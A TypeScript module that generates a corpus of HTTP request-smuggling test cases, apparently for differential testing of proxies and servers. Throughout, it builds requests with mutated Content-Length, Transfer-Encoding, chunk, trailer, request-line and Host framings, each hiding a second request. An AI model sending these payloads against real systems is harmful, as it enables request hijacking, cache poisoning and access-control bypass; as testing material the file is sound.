/**
 * Requests in which a second one is hidden, for whoever reads their framing differently from the one who forwarded them: every
 * mutation of the two framing fields that is known to have split proxies from servers (CL.TE, TE.CL, TE.TE, CL.0, and bytes around names
 * and values, as in the lists of PortSwigger's HTTP Request Smuggler and of the HTTP Garden).
 */
export interface SmugglingCase {
  readonly name: string
  /** A request for FIRST, in whatever framing, and in its body or behind it one for SMUGGLED. Latin-1. */
  readonly bytes: string
}

/** Paths, for whoever sends the requests to put a number of four digits in place of the zeros. */
export const FIRST = '/first-0000'
export const SMUGGLED = '/smuggled-0000'

const HIDDEN = `GET ${SMUGGLED} HTTP/1.1\r\nHost: server\r\n\r\n`
/** To a reader of Content-Length a body; to one of chunks the end of the body, and a request. */
const AS_CHUNKS = `0\r\n\r\n${HIDDEN}`
/** To a reader of chunks one chunk and the end; to one of Content-Length: 4 the size of the chunk, and then a request. */
const AS_LENGTH = `${HIDDEN.length.toString(16).padStart(2, '0')}\r\n${HIDDEN}\r\n0\r\n\r\n`

const post = (lines: string, body: string): string =>
  `POST ${FIRST} HTTP/1.1\r\nHost: server\r\n${lines}\r\n\r\n${body}`

/** What has been put where it does not belong. */
const ODD: readonly string[] = [
  ' ',
  '\t',
  '\v',
  '\f',
  '\0',
  '\x01',
  '\x1f',
  '\x7f',
  '\x80',
  '\x85',
  '\xa0',
  '\xff',
  '\r',
  '\n',
  '\r\n ',
  '\r\n\t',
  '\n ',
  '\r\r\n',
  ',',
  ';',
  ':',
  '"',
  "'",
  '\\',
  '+',
  '-',
  '_',
  '0',
  'x',
  '%',
  '()',
  '{}',
  '//',
  '\u{0}\u{0}',
]

/** A field with something odd in each of its places. */
function mutations(name: string, value: string): readonly string[] {
  const middle = value.length >> 1
  return ODD.flatMap((odd) => [
    `${odd}${name}: ${value}`,
    `${name}${odd}: ${value}`,
    `${name}:${odd}${value}`,
    `${name}: ${odd}${value}`,
    `${name}: ${value.slice(0, middle)}${odd}${value.slice(middle)}`,
    `${name}: ${value}${odd}`,
    `${name}: ${value}${odd}${value}`,
    `X: y${odd}${name}: ${value}`,
  ])
}

const SPELLINGS: readonly string[] = [
  'transfer-encoding: chunked',
  'TRANSFER-ENCODING: CHUNKED',
  'Transfer_Encoding: chunked',
  'Transfer Encoding: chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: x-chunked',
  'Transfer-Encoding: chunked-x',
  'Transfer-Encoding: chunk',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: ch\xfcnked',
  'Transfer-Encoding: \u017fchunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Foo: bar\r\n Transfer-Encoding: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
]

const quote = (text: string): string => JSON.stringify(text.slice(0, 80))
const named = (kind: string, lines: string, bytes: string): SmugglingCase => ({
  name: `${kind} ${quote(lines)}`,
  bytes,
})

function* framing(): Generator<SmugglingCase> {
  const length = `Content-Length: ${AS_CHUNKS.length}`
  for (const encoding of [...SPELLINGS, ...mutations('Transfer-Encoding', 'chunked')]) {
    yield named('CL.TE', encoding, post(`${length}\r\n${encoding}`, AS_CHUNKS))
    yield named('TE.CL', encoding, post(`${encoding}\r\nContent-Length: 4`, AS_LENGTH))
    yield named('TE.0', encoding, post(encoding, AS_CHUNKS))
  }
  for (const odd of mutations('Content-Length', String(HIDDEN.length))) {
    yield named('CL.0', odd, post(odd, HIDDEN))
    yield named('CL.CL', odd, post(`Content-Length: 0\r\n${odd}`, HIDDEN))
    yield named('CL.TE', odd, post(`${odd}\r\nTransfer-Encoding: chunked`, AS_CHUNKS))
  }
}

function* chunks(): Generator<SmugglingCase> {
  const body = (line: string, end = '\r\n'): string =>
    post('Transfer-Encoding: chunked', `${line}\r\nabc${end}0\r\n\r\n${HIDDEN}`)
  for (const odd of ODD)
    for (const line of [
      `${odd}3`,
      `3${odd}`,
      `3${odd};a`,
      `3;${odd}a`,
      `3;a${odd}`,
      `3;a=${odd}b`,
      `3;a="${odd}"`,
      `0${odd}3`,
    ])
      yield named('chunk', line, body(line))
  for (const end of ['', '\n', '\r', '\n\r', 'x\r\n', '\r\n\r\n', '\0\r\n'])
    yield named('chunk end', end, body('3', end))
  for (const last of [
    '0\r\n',
    '0\n\n',
    '0\r\n\n',
    '0\r\nX: y\n\n',
    '0\r\n X: y\r\n\r\n',
    '00\r\n\r\n',
    '-0\r\n\r\n',
    '0x0\r\n\r\n',
  ])
    yield named('last chunk', last, post('Transfer-Encoding: chunked', `3\r\nabc\r\n${last}${HIDDEN}`))
  for (const field of [
    'Content-Length: 5',
    'Transfer-Encoding: chunked',
    'Host: other',
    `GET ${SMUGGLED} HTTP/1.1`,
    ':x',
    'a b: c',
  ])
    yield named('trailer', field, post('Transfer-Encoding: chunked', `0\r\n${field}\r\n\r\n${HIDDEN}`))
}

function* others(): Generator<SmugglingCase> {
  for (const method of ['GET', 'HEAD', 'OPTIONS', 'DELETE', 'CONNECT', 'PRI', 'get'])
    for (const lines of [
      `Content-Length: ${HIDDEN.length}`,
      'Expect: 100-continue\r\nContent-Length: 4',
      'Connection: Content-Length\r\nContent-Length: 4',
    ])
      yield named(method, lines, `${method} ${FIRST} HTTP/1.1\r\nHost: server\r\n${lines}\r\n\r\n${HIDDEN}`)
  for (const odd of ODD)
    for (const start of [
      `POST${odd}${FIRST} HTTP/1.1`,
      `POST ${FIRST}${odd}HTTP/1.1`,
      `POST ${FIRST} HTTP/1.1${odd}`,
      `${odd}POST ${FIRST} HTTP/1.1`,
      `POST ${FIRST} HTTP${odd}/1.1`,
      `POST ${FIRST}${odd}x HTTP/1.1`,
    ])
      yield named(
        'request line',
        start,
        `${start}\r\nHost: server\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
      )
  for (const version of ['HTTP/1.0', 'HTTP/0.9', 'HTTP/2.0', 'HTTP/1.10', 'HTTP/1', 'http/1.1', ''])
    for (const lines of [
      'Transfer-Encoding: chunked',
      'Connection: keep-alive\r\nTransfer-Encoding: chunked',
    ])
      yield named(version, lines, `POST ${FIRST} ${version}\r\nHost: server\r\n${lines}\r\n\r\n${AS_CHUNKS}`)
  for (const lines of [
    'Connection: Upgrade\r\nUpgrade: websocket',
    'Connection: Upgrade\r\nUpgrade: h2c',
    'Upgrade: websocket',
    `Connection: Upgrade\r\nUpgrade: x\r\nContent-Length: ${HIDDEN.length}`,
  ])
    yield named('upgrade', lines, `GET ${FIRST} HTTP/1.1\r\nHost: server\r\n${lines}\r\n\r\n${HIDDEN}`)
  for (const host of mutations('Host', 'other'))
    yield named('Host', host, post(`${host}\r\nContent-Length: ${HIDDEN.length}`, HIDDEN))
}

export const CORPUS: readonly SmugglingCase[] = [...framing(), ...chunks(), ...others()]
